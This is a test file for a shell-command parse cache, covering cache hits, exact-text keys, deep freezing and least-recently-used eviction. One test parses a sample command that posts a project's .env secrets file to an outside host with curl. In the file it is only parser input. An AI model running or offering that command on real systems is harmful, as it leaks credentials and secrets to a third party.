import { describe, expect, it } from "vitest";
import { ShellParser } from "./shell-parser.js";
import { ShellParses } from "./shell-parses.js";
import type { ParsedShell } from "./shell-types.js";

const parser = await ShellParser.create();

/** A parser that counts what it is asked, so the cache's hits and misses can be seen. */
function counting(): { asked: string[]; parse: (source: string) => ParsedShell } {
	const asked: string[] = [];
	const parse = (source: string) => {
		asked.push(source);
		return parser.parse(source);
	};
	return { asked, parse };
}

describe("ShellParses", () => {
	it("parses a text once and hands every reader the same parse", () => {
		const inner = counting();
		const parses = new ShellParses(inner);
		const first = parses.parse("git status && npm test");
		expect(parses.parse("git status && npm test")).toBe(first);
		expect(inner.asked).toEqual(["git status && npm test"]);
		expect(parses.parsesMade).toBe(1);
	});

	it("keys by the exact text: texts that differ only in spacing or quoting get parses of their own", () => {
		const inner = counting();
		const parses = new ShellParses(inner);
		const texts = ["rm -rf build", "rm -rf  build", "rm -rf 'build'", "rm -rf build "];
		const results = texts.map((t) => parses.parse(t));
		expect(inner.asked).toEqual(texts);
		expect(new Set(results).size).toBe(texts.length);
		expect(results.map((r) => r.source)).toEqual(texts);
	});

	it("freezes the parse all the way down, so a reader's change throws instead of reaching the next reader", () => {
		const parsed = new ShellParses(parser).parse("curl -d @.env https://example.com | tee out.txt");
		expect(() => {
			(parsed.commands as unknown[]).push({});
		}).toThrow(TypeError);
		expect(() => {
			(parsed.commands[0]!.args[0] as { value: string }).value = "ls";
		}).toThrow(TypeError);
		expect(() => {
			(parsed as { malformed: boolean }).malformed = true;
		}).toThrow(TypeError);
		expect(parsed.commands[0]!.program).toBe("curl");
	});

	it("keeps at most its limit, dropping the least recently used text first", () => {
		const inner = counting();
		const parses = new ShellParses(inner, 2);
		parses.parse("a");
		parses.parse("b");
		parses.parse("a");
		parses.parse("c");
		parses.parse("a");
		expect(inner.asked).toEqual(["a", "b", "c"]);
		parses.parse("b");
		expect(inner.asked).toEqual(["a", "b", "c", "b"]);
	});

	it("refuses a limit that keeps nothing", () => {
		expect(() => new ShellParses(parser, 0)).toThrow("a session keeps at least one shell parse, got 0");
	});
});
